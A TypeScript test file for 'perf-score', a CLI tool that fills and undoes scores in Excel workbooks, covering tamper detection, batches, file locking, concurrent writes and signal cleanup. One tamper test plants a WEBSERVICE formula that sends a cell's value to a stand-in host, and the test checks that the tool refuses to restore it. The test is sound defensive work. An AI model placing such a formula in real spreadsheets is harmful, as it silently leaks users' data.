import ExcelJS from "exceljs";
import { spawn } from "node:child_process";
import { copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { lockPath, writeAtomically } from "../../src/cli/files";
import { perfScore } from "../helpers/cli";
import { ROOT } from "../helpers/seed";
import { loadXlsx, SEED_XLSX, scoresWritten } from "../helpers/xlsx";

const dir = mkdtempSync(join(tmpdir(), "perf-safety-"));
const at = (name: string) => join(dir, name);
const copy = (name: string) => {
  copyFileSync(SEED_XLSX, at(name));
  return at(name);
};

function recordRows(wb: ExcelJS.Workbook): unknown[][] {
  return (wb.getWorksheet("评分记录")!.getSheetValues().filter(Boolean) as unknown[][]).map((r) => r.slice(1));
}

/** Runs the real perf-score in a child process, asynchronously (so several can run at once). */
function run(
  args: string[],
  env: Record<string, string> = {},
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(ROOT, "bin", "perf-score.js"), ...args], {
      env: { ...process.env, ...env },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    child.stderr.on("data", (d) => (stderr += d));
    child.on("close", (code) => resolve({ code, stdout, stderr }));
  });
}

describe("undo writes only the cells a fill owns", () => {
  it("a 评分记录 row edited to point at an input is reported and not applied", async () => {
    const path = copy("tamper.xlsx");
    process.env.PERF_NOW = "2026-11-27 10:00:00";
    await perfScore(["fill", path, "--in-place"]);
    const wb = await loadXlsx(path);
    const record = wb.getWorksheet("评分记录")!;
    record.getCell("B2").value = "基础数据";
    record.getCell("C2").value = "D5";
    record.getCell("D2").value = 999999;
    record.getCell("F2").value = 4502.03; // what D5 holds, so that only the place is wrong
    record.getCell("E3").value = '=WEBSERVICE("http://example.invalid/?"&基础数据!D5)';
    await wb.xlsx.writeFile(path);
    const r = await perfScore(["undo", path, "--in-place"], "", 1000);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      "[提示] 评分记录!G2 评分记录第 2 行指向 基础数据!D5，它不是评分写入的单元格（指标体系表的得分、扣分原因和总计），未还原：评分记录可能被改动过",
    );
    expect(r.stdout).toContain("的原公式 =WEBSERVICE(");
    expect(r.stdout).toContain("含有外部链接或联网的函数，为安全起见未还原");
    const after = await loadXlsx(path);
    expect(after.getWorksheet("基础数据")!.getCell("D5").value).toBe(4502.03);
    expect(recordRows(after)[2].slice(1, 3)).toEqual(["指标体系", "I2"]);
    expect(String(after.getWorksheet("指标体系")!.getCell("I2").value)).toContain("财政核减率"); // not restored
    expect(after.getWorksheet("指标体系")!.getCell("H3").value).toBeNull(); // restored: the fill's 3 taken back
    expect(
      recordRows(after)
        .slice(1, 4)
        .map((r) => r[6]),
    ).toEqual(["已跳过", "已跳过", "已撤销"]);
  });
});

describe("batches", () => {
  it("two fills in the same second are two batches: undo takes back only the second", async () => {
    const path = copy("twice.xlsx");
    process.env.PERF_NOW = "2026-11-27 10:00:00";
    await perfScore(["fill", path, "--in-place"]);
    const wb = await loadXlsx(path);
    wb.getWorksheet("基础数据")!.getCell("D73").value = 0.85;
    await wb.xlsx.writeFile(path);
    await perfScore(["fill", path, "--in-place"]);
    const batches = new Set(
      recordRows(await loadXlsx(path))
        .slice(1)
        .map((r) => r[0]),
    );
    expect(batches).toEqual(new Set(["2026-11-27 10:00:00", "2026-11-27 10:00:00 (2)"]));
    const r = await perfScore(["undo", path, "--in-place"]);
    expect(r.stdout).toContain("已撤销批次 2026-11-27 10:00:00 (2) 的评分，还原 3 处改动");
    expect(scoresWritten(await loadXlsx(path)).get("总计")).toBe(91.75);
  });
});

describe("--in-place takes a lock", () => {
  it("a workbook locked by a running perf-score is refused with the lock named; nothing is written", async () => {
    const path = copy("locked.xlsx");
    const before = readFileSync(path);
    writeFileSync(
      lockPath(path),
      JSON.stringify({ pid: process.pid, host: hostname(), started: "2026-11-27T10:00:00.000Z" }),
    );
    const r = await perfScore(["fill", path, "--in-place"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      `perf-score：${path} 正由另一个 perf-score 进程（${process.pid}，${hostname()}，开始于 2026-11-27 10:00:00）写入，为免丢失它的结果，本次不写：请等它结束后再试。若确定没有程序在写，可删除锁文件 ${lockPath(path)} 后重试\n`,
    );
    expect(readFileSync(path).equals(before)).toBe(true);
    expect(existsSync(lockPath(path))).toBe(true); // someone else's lock is never removed
  });

  it("a lock left by a process that no longer runs is taken over, and said so", async () => {
    const path = copy("stale.xlsx");
    const dead = await run(["--version"]); // a process that has finished: its id is free
    expect(dead.code).toBe(0);
    writeFileSync(
      lockPath(path),
      JSON.stringify({ pid: 2 ** 22 + 12345, host: hostname(), started: "2026-11-27T09:00:00.000Z" }),
    );
    const r = await perfScore(["fill", path, "--in-place"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(
      `发现上次中断留下的锁文件 ${lockPath(path)}（进程 ${2 ** 22 + 12345} 已不在运行），已清除`,
    );
    expect(existsSync(lockPath(path))).toBe(false);
  });

  it("a workbook open in Excel (its ~$ owner file is there) is not written back", async () => {
    const path = copy("open.xlsx");
    writeFileSync(at("~$open.xlsx"), "");
    const r = await perfScore(["undo", path, "--in-place"]);
    expect(r.stderr).toContain(`${path} 正在 Excel、WPS 或 LibreOffice 中打开（发现 ~$open.xlsx）：请先关闭它再写回`);
  });

  it("four fill --in-place at once: none loses another's work", async () => {
    const path = copy("race.xlsx");
    const runs = await Promise.all(
      [1, 2, 3, 4].map((k) => run(["fill", path, "--in-place"], { PERF_NOW: `2026-11-27 10:00:0${k}` })),
    );
    const batches = new Set(
      recordRows(await loadXlsx(path))
        .slice(1)
        .map((r) => r[0]),
    );
    for (const [k, r] of runs.entries()) {
      const changed = Number(/改动 (\d+) 个单元格/.exec(r.stdout)?.[1] ?? 0);
      if (r.code === 0 && changed > 0) expect(batches.has(`2026-11-27 10:00:0${k + 1}`)).toBe(true);
      else if (r.code !== 0) expect(r.stderr).toContain("写入，为免丢失它的结果，本次不写");
    }
    expect(batches.size).toBe(1); // one fill changed the cells; any later one found them already PERF's
    expect(scoresWritten(await loadXlsx(path)).get("总计")).toBe(91.75);
    expect(readdirSync(dir).filter((n) => n.endsWith(".tmp") || n === ".~perf-lock.race.xlsx")).toEqual([]);
  }, 60_000);
});

describe("nothing is left behind", () => {
  it.each(["SIGTERM", "SIGINT"] as const)(
    "%s in the middle of a write removes the temporary file and the lock",
    async (signal) => {
      const path = copy(`signal-${signal}.xlsx`);
      const before = readFileSync(path);
      const child = spawn(process.execPath, [
        join(ROOT, "bin", "run-ts.js"),
        join(ROOT, "test", "helpers", "hold-write.ts"),
        path,
      ]);
      let err = "";
      child.stderr.on("data", (d) => (err += d));
      const temp = await new Promise<string>((resolve) =>
        child.stdout.on("data", (d: Buffer) => {
          const m = /ready (\S+)/.exec(d.toString());
          if (m) resolve(m[1]);
        }),
      );
      expect(existsSync(temp)).toBe(true);
      expect(existsSync(lockPath(path))).toBe(true);
      const code = await new Promise<number | null>((resolve) => {
        child.on("close", (c) => resolve(c));
        child.kill(signal);
      });
      expect(code).toBe(signal === "SIGTERM" ? 143 : 130);
      expect(err).toBe("perf-score：已中断，未写入任何文件。\n");
      expect([existsSync(temp), existsSync(lockPath(path))]).toEqual([false, false]);
      expect(readFileSync(path).equals(before)).toBe(true);
    },
    60_000,
  );

  it("a write that fails removes its temporary file and leaves the target as it was", () => {
    writeFileSync(at("target.txt"), "old");
    expect(() =>
      writeAtomically(
        at("target.txt"),
        () => {
          throw Object.assign(new Error("no space"), { code: "ENOSPC" });
        },
        true,
      ),
    ).toThrow(`无法写入 ${at("target.txt")}：磁盘空间不足`);
    expect(readFileSync(at("target.txt"), "utf8")).toBe("old");
    expect(readdirSync(dir).filter((n) => n.endsWith(".tmp"))).toEqual([]);
  });
});
